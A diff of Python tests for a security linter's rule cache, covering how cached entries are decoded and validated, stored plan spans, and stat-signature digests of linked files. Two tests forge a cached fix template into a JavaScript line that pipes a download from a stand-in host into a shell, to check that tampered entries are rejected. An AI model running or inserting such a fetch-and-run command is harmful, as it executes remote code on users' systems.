@@ -63,7 +63,7 @@ def test_an_unreadable_or_foreign_cache_entry_is_replaced(cache_home: Path, tmp_
     expected = load_rules([path], bundled=False, use_cache=False)
     entry = cache_entry([path])
     assert entry is not None
-    entry.parent.mkdir(parents=True)
+    entry.parent.mkdir(parents=True, exist_ok=True)  # (the linked files' digest may be kept there)
     entry.write_bytes(content)
     assert load_rules([path], bundled=False) == expected
     assert entry.read_bytes() != content
@@ -131,7 +131,7 @@ def test_a_fix_template_that_is_not_in_the_rule_file_is_a_miss(
     expected = load_rules([path], bundled=False)
     entry = cache_entry([path])
     assert entry is not None
-    cached = json.loads(validated_cache.read(entry) or b"")
+    cached = rule_cache.cached_document(validated_cache.read(entry) or b"")[0]
     cached["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
     _forge(entry, json.dumps(cached).encode(), with_header)
     assert load_rules([path], bundled=False) == expected
@@ -151,7 +151,7 @@ def test_a_process_decodes_an_entry_once_and_a_rewritten_one_again(cache_home: P
     assert [id(r) for r in load_rules([path], bundled=False)] == [id(r) for r in first]
     entry = cache_entry([path])
     assert entry is not None
-    cached = json.loads(validated_cache.read(entry) or b"")
+    cached = rule_cache.cached_document(validated_cache.read(entry) or b"")[0]
     cached["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
     _forge(entry, json.dumps(cached).encode(), with_header=True)
     again = load_rules([path], bundled=False)
@@ -187,7 +187,7 @@ def test_a_config_entry_of_the_wrong_shape_is_a_miss(cache_home: Path, tmp_path:
 def test_rules_sharing_a_knowledge_item_store_its_narrative_once(cache_home: Path) -> None:
     rules = load_rules()
     (entry,) = cache_home.glob("rules-*.json")
-    payload = json.loads(validated_cache.read(entry) or b"")
+    payload = rule_cache.cached_document(validated_cache.read(entry) or b"")[0]
     assert len(payload["rules"]) == len(rules)
     assert len(payload["narratives"]) == len({(r.description, r.impact, r.remediation) for r in rules})
     assert load_rules() == load_rules(use_cache=False)
@@ -206,6 +206,25 @@ def test_structural_plans_come_from_the_cache_as_they_were_built(cache_home: Pat
         options = rule.match.options
         assert "_plan_text" in vars(options)  # kept with the rule, not built again ...
         assert options.plan == Plan.of(options), rule.id  # ... and the same plan
+
+
+def test_plans_are_kept_after_the_document_and_a_misplaced_one_is_a_miss(cache_home: Path) -> None:
+    """The plans follow the JSON document (a NUL between), each rule naming its own span: no plan
+    text is escaped inside the document. A span outside the plans makes the entry a miss."""
+    expected = load_rules()
+    (entry,) = cache_home.glob("rules-*.json")
+    payload = validated_cache.read(entry) or b""
+    document, plans = rule_cache.cached_document(payload)
+    spans = [rule["plan"] for rule in document["rules"] if "plan" in rule]
+    assert spans and all(isinstance(rule.get("plan", []), list) for rule in document["rules"])
+    assert sorted(spans) == spans and spans[-1][1] == len(plans)  # one after another, all of them
+    first = next(rule for rule in document["rules"] if "plan" in rule)
+    for misplaced in ([0, len(plans) + 1], [5, 2], ["0", 2], 7):
+        first["plan"] = misplaced
+        _forge(entry, rule_cache.cache_payload(document, plans), with_header=True)
+        rule_cache.forget_decoded()
+        assert load_rules() == expected
+        assert validated_cache.read(entry) == payload  # validated again, and written as before
 
 
 def test_a_plan_that_does_not_decode_is_built_again(cache_home: Path) -> None:
@@ -306,6 +325,66 @@ def test_an_entry_is_named_by_the_code_that_validates_and_plans_rules(
     first = cache_entry([])
     code.write_text("PLAN = 2\n")
     assert cache_entry([]) != first
+
+
+def test_the_linked_files_digest_is_remembered_by_their_stat_signature(
+    cache_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The packs', utils' and code's digest is kept under their sizes, times and inodes: a scan
+    with nothing changed reads none of them. An edit is another signature, and another entry."""
+    from secure_lint.rules import cache as rule_cache
+
+    code = tmp_path / "structural.py"
+    monkeypatch.setattr(rule_cache, "_code_files", lambda: [code])
+    monkeypatch.setattr(rule_cache, "RACY_NS", 0)  # written before the scan: settled
+    code.write_text("PLAN = 1\n")
+    first = cache_entry([])
+    assert len(list(cache_home.glob("linked-*.json"))) == 1
+    real = Path.read_bytes
+
+    def only_the_cache(path: Path) -> bytes:
+        assert cache_home in path.parents, f"{path} read"
+        return real(path)
+
+    with monkeypatch.context() as reading:
+        reading.setattr(Path, "read_bytes", only_the_cache)
+        assert cache_entry([]) == first  # from the signature: no linked file read
+    code.write_text("PLAN = 22\n")
+    edited = cache_entry([])
+    assert edited != first
+    code.write_text("PLAN = 1\n")
+    assert cache_entry([]) == first  # the content named again, whatever the signature
+
+
+def test_a_file_written_within_the_racy_window_is_read_every_time(
+    cache_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A file may be written again within its timestamp's tick, keeping its size and times: its
+    signature says nothing yet, so nothing is remembered and its content names the entry."""
+    from secure_lint.rules import cache as rule_cache
+
+    code = tmp_path / "structural.py"
+    monkeypatch.setattr(rule_cache, "_code_files", lambda: [code])
+    code.write_text("PLAN = 1\n")
+    first = cache_entry([])
+    code.write_text("PLAN = 2\n")  # same size, likely the same times
+    assert cache_entry([]) != first
+    assert not list(cache_home.glob("linked-*.json"))
+
+
+def test_a_scan_without_the_cache_neither_reads_nor_keeps_the_linked_digest(
+    cache_home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from secure_lint.rules import cache as rule_cache
+
+    monkeypatch.setattr(rule_cache, "RACY_NS", 0)
+    assert rule_cache.cache_entry([], remember=False) == cache_entry([])
+    (memo,) = cache_home.glob("linked-*.json")
+    _forge(memo, b"0" * 64, with_header=True)
+    assert rule_cache.cache_entry([], remember=False) != cache_entry([])  # the forged digest is not read
+    memo.unlink()
+    rule_cache.cache_entry([], remember=False)
+    assert not list(cache_home.glob("linked-*.json"))
 
 
 def test_the_code_an_entry_is_named_by_is_the_installed_package() -> None:
